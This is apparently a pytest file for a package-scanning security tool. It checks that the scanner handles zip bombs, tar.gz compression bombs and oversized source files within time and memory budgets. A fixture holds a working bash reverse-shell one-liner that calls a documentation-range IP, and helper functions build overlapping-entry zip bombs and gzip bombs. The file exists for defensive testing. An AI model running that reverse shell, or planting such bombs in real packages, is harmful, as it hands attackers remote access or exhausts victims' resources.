"""Bounded time and memory on hostile packages (issue 9): every hit is a finding or an error
naming the member, and the scan goes on. Hostile inputs are generated here, small on disk.

Time and memory are checked in a child process against generous budgets (never a speed
assertion): the point is that a bomb stops early instead of running for minutes."""

from __future__ import annotations

import gzip
import io
import json
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

from lambdawatch.codescan.archive import Limits
from lambdawatch.codescan.filejob import FileBudget, scan_with_budget
from lambdawatch.codescan.model import Finding, Severity
from lambdawatch.codescan.runfiles import ScanOptions
from lambdawatch.codescan.scanner import scan_bytes

EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
SRC = str(Path(__file__).resolve().parents[2] / "src")
BUDGET_S = 60  # generous: the unbounded versions took minutes
BUDGET_MB = 400


def found(result: object) -> set[tuple[str, str, Severity]]:
    return {(f.code, f.file, f.severity) for f in result.findings}  # type: ignore[attr-defined]


def package_findings(result: object) -> set[tuple[str, str, Severity]]:
    """The package-safety (PK) findings, exactly; code findings are the checks' business."""
    return {x for x in found(result) if x[0].startswith("PK")}


SHELL = ("CS101", "handler.py", Severity.CRITICAL)  # the reverse shell in EVIL, when scanned


def overlapping_zip(n: int, kernel: bytes) -> bytes:
    """A Fifield-style zip: one deflated kernel, ``n`` central entries all pointing at it."""
    comp = zlib.compress(kernel, 9)[2:-4]
    crc = zlib.crc32(kernel)
    name0 = b"k0.txt"
    local = (
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0,
            crc,
            len(comp),
            len(kernel),
            len(name0),
            0,
        )
        + name0
        + comp
    )
    central = b""
    for i in range(n):
        name = f"k{i}.txt".encode()
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(comp),
                len(kernel),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), len(local), 0)
    return local + central + end


def test_overlapping_entries_are_one_high_finding_and_not_inflated() -> None:
    kernel = bytes(range(256)) * 400  # ~100 KB, compresses < 200:1: only the overlap catches it
    result = scan_bytes("t", "p.zip", overlapping_zip(50, kernel))
    assert found(result) == {("PK001", "k1.txt", Severity.HIGH)}
    [f] = result.findings
    assert (
        f.message == "49 member(s) overlap other members' data (overlapping-entry zip bomb): "
        "not read"
    )
    assert result.files_scanned == 1 and result.bytes_scanned == len(kernel)


def test_plain_zip_has_no_overlap_finding() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(50):
            zf.writestr(f"k{i}.txt", bytes(range(256)) * 400)
    result = scan_bytes("t", "p.zip", buf.getvalue())
    assert result.findings == [] and result.files_scanned == 50


CHILD = """
import json, resource, sys, time
sys.path.insert(0, sys.argv[1])
from lambdawatch.codescan.scanner import scan_bytes
data = open(sys.argv[2], "rb").read()
t0 = time.monotonic()
r = scan_bytes("t", sys.argv[3], data)
try:  # VmHWM: this process's own peak (ru_maxrss keeps the forking parent's across exec)
    hwm = [ln for ln in open("/proc/self/status") if ln.startswith("VmHWM:")][0]
    peak = int(hwm.split()[1]) / 1024
except OSError:
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps({"seconds": time.monotonic() - t0, "errors": r.errors, "peak_mb": peak,
                  "findings": sorted([f.code, f.file, f.line, str(f.severity), f.message]
                                     for f in r.findings)}))
"""


def child_scan(path: Path, name: str) -> dict[str, Any]:
    """Scan ``path`` in a fresh interpreter: its findings, errors, peak RSS and scan time."""
    proc = subprocess.run(
        [sys.executable, "-c", CHILD, SRC, str(path), name],
        check=True,
        capture_output=True,
        text=True,
        timeout=BUDGET_S * 3,
    )
    doc: dict[str, Any] = json.loads(proc.stdout)
    return doc


def tar_gz_bomb(path: Path, zeros: int) -> None:
    """A tar.gz with a reverse shell then ``zeros`` zero bytes, compressed as a stream."""
    with path.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9) as gz:
        for name, size in (("handler.py", len(EVIL)), ("zeros.bin", zeros)):
            ti = tarfile.TarInfo(name)
            ti.size = size
            gz.write(ti.tobuf())
            if name == "handler.py":
                gz.write(EVIL + bytes(-len(EVIL) % 512))
        chunk = bytes(1024 * 1024)
        for _ in range(zeros // len(chunk)):
            gz.write(chunk)
        gz.write(bytes(1024))


def test_tar_gz_bomb_stops_at_the_inflate_cap_in_bounded_time_and_memory(tmp_path: Path) -> None:
    bomb = tmp_path / "layer.tar.gz"
    tar_gz_bomb(bomb, 512 * 1024 * 1024)
    gz = bomb.stat().st_size
    assert gz < 1024 * 1024  # half a GiB of zeros in under a MB
    out = child_scan(bomb, "layer.tar.gz")
    cap = max(200 * gz, 16 * 1024 * 1024)
    assert ["CS101", "handler.py", 2, "critical"] in [f[:4] for f in out["findings"]]
    pk = [f for f in out["findings"] if f[0].startswith("PK")]
    assert [f[:4] for f in pk] == [
        ["PK001", "layer.tar.gz", 0, "high"],
        ["PK001", "zeros.bin", 0, "high"],
    ]
    assert [f[4] for f in pk] == [
        f"tar inflates past {cap} bytes (compression bomb): reading stopped, result is partial",
        f"member of {512 * 1024 * 1024} bytes over the member limit",
    ]
    assert out["seconds"] < BUDGET_S
    assert out["peak_mb"] < BUDGET_MB


def test_small_tar_gz_is_read_whole() -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tf:
        for name, data in (("handler.py", EVIL), ("zeros.bin", bytes(4 * 1024 * 1024))):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    result = scan_bytes("t", "layer.tgz", raw.getvalue())
    assert package_findings(result) == set() and SHELL in found(result)
    assert result.files_scanned == 2


def test_tar_with_too_many_entries_stops() -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tf:
        for i in range(300):
            ti = tarfile.TarInfo(f"d{i}")
            ti.type = tarfile.DIRTYPE
            tf.addfile(ti)
    result = scan_bytes("t", "x.tar.gz", raw.getvalue(), Limits(max_files=100))
    assert [(f.code, f.file, f.message) for f in result.findings] == [
        ("PK001", "d100", "more than 100 tar entries: reading stopped, result is partial")
    ]


def test_dense_python_over_the_parse_size_degrades_to_text_scan(tmp_path: Path) -> None:
    src = (
        "import os\nx = [" + ",".join(f"f(a{i}, b.c{i})" for i in range(60_000)) + "]\n"
    ).encode() + EVIL[10:]
    path = tmp_path / "handler.py"
    path.write_bytes(src)
    out = child_scan(path, "handler.py")
    assert len(src) > 1024 * 1024
    assert out["errors"] == [
        (f"handler.py: {len(src)} bytes, over the 1048576-byte parse limit: text scan used")
    ]
    assert ["CS101", "handler.py", 3, "critical"] in [f[:4] for f in out["findings"]]
    assert not [f for f in out["findings"] if f[0].startswith("PK")]
    assert out["seconds"] < BUDGET_S
    assert out["peak_mb"] < BUDGET_MB


def test_parse_over_its_time_budget_degrades_to_text_scan() -> None:
    src = (
        "import os\nx = [" + ",".join(f"f(a{i}, b.c{i})" for i in range(20_000)) + "]\n"
    ).encode() + EVIL
    opts = ScanOptions(workers=1, file_budget=FileBudget(file_seconds=0.05))
    result = scan_bytes("t", "handler.py", src, options=opts)
    assert result.errors == ["handler.py: parse over the 0.05 s budget: text scan"]
    assert SHELL in found(result)


def test_parse_within_budget_is_not_degraded() -> None:
    result = scan_bytes("t", "handler.py", EVIL, options=ScanOptions(workers=1))
    assert result.errors == []
    assert SHELL in found(result) and package_findings(result) == set()


def test_package_time_budget_reports_unscanned_files_as_high() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a.py", b"x = 1\n")
        zf.writestr("handler.py", EVIL)
    result = scan_bytes(
        "t", "p.zip", buf.getvalue(), options=ScanOptions(workers=1, time_budget=1e-9)
    )
    assert [(f.code, f.file, f.severity, f.message) for f in result.findings] == [
        (
            "PK001",
            "a.py",
            Severity.HIGH,
            (
                "time budget of 1e-09 s exhausted: 2 file(s) not "
                "scanned, first 'a.py'; result is partial (raise it with --time-budget)"
            ),
        )
    ]
    assert result.files_scanned == 0
    unbounded = scan_bytes("t", "p.zip", buf.getvalue(), options=ScanOptions(time_budget=0))
    assert SHELL in found(unbounded) and package_findings(unbounded) == set()


def _busy(path: str, data: bytes, vendored: bool, errors: list[str], parse: bool) -> list[Finding]:
    """A front end that never finishes in time (pure Python, so the timer interrupts it)."""
    while True:
        sum(range(1000))


def _slow_parse(
    path: str, data: bytes, vendored: bool, errors: list[str], parse: bool
) -> list[Finding]:
    if parse:
        _busy(path, data, vendored, errors, parse)
    return [Finding("x", "CS999", Severity.LOW, path, 1, "text result", "")]


def test_text_scan_over_its_budget_is_a_high_finding() -> None:
    found, errors, complete = scan_with_budget(
        _busy, "bundle.js", b"x" * 100, False, FileBudget(max_parse=10, file_seconds=0.01)
    )
    msg = "text scan over the 0.04 s budget: file not fully scanned"
    assert [(f.code, f.file, f.severity, f.message) for f in found] == [
        ("PK001", "bundle.js", Severity.HIGH, msg)
    ]
    assert errors == [
        "bundle.js: 100 bytes, over the 10-byte parse limit: text scan used",
        f"bundle.js: {msg}",
    ]
    assert complete is False


def test_slow_parse_falls_back_to_the_text_result_and_is_not_complete() -> None:
    found, errors, complete = scan_with_budget(
        _slow_parse, "h.py", b"x = 1\n", False, FileBudget(file_seconds=0.01)
    )
    assert [(f.code, f.message) for f in found] == [("CS999", "text result")]
    assert errors == ["h.py: parse over the 0.01 s budget: text scan"] and complete is False


def test_fast_parse_is_complete_and_untouched() -> None:
    found, errors, complete = scan_with_budget(
        lambda p, d, v, e, parse: [], "h.py", b"x = 1\n", False, FileBudget()
    )
    assert (found, errors, complete) == ([], [], True)


def test_fifield_bomb_of_twenty_thousand_entries_in_bounded_time_and_memory(tmp_path: Path) -> None:
    kernel = bytes(range(256)) * 4096  # 1 MiB: read naively, 20,000 entries would be 20 GiB
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(overlapping_zip(20_000, kernel))
    assert bomb.stat().st_size < 2 * 1024 * 1024
    out = child_scan(bomb, "bomb.zip")
    assert [f[:4] for f in out["findings"]] == [["PK001", "k1.txt", 0, "high"]]
    assert out["findings"][0][4].startswith("19999 member(s) overlap other members' data")
    assert out["seconds"] < BUDGET_S
    assert out["peak_mb"] < BUDGET_MB


def test_cli_time_budget_fails_the_gate(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from lambdawatch.cli.scan import scan

    pkg = tmp_path / "p.zip"
    with zipfile.ZipFile(pkg, "w") as zf:
        zf.writestr("handler.py", b"def handler(event, context):\n    return 1\n")
    ok = CliRunner().invoke(scan, [str(pkg), "--no-cache", "--format", "json"])
    assert ok.exit_code == 0 and json.loads(ok.output)["findings"] == []
    late = CliRunner().invoke(
        scan, [str(pkg), "--no-cache", "--format", "json", "--time-budget", "0.000000001"]
    )
    assert late.exit_code == 1
    assert [(f["code"], f["severity"]) for f in json.loads(late.output)["findings"]] == [
        ("PK001", "high")
    ]


def test_big_data_and_binary_files_are_not_reported_as_unparsed() -> None:
    big = 2 * 1024 * 1024
    for name, blob in (
        ("data/endpoints.json", b'{"a": 1}\n' * (big // 9)),
        ("lib/native.so", b"\x7fELF" + bytes(big)),
    ):
        result = scan_bytes("t", name, blob, options=ScanOptions(workers=1))
        assert result.errors == [] and result.findings == []
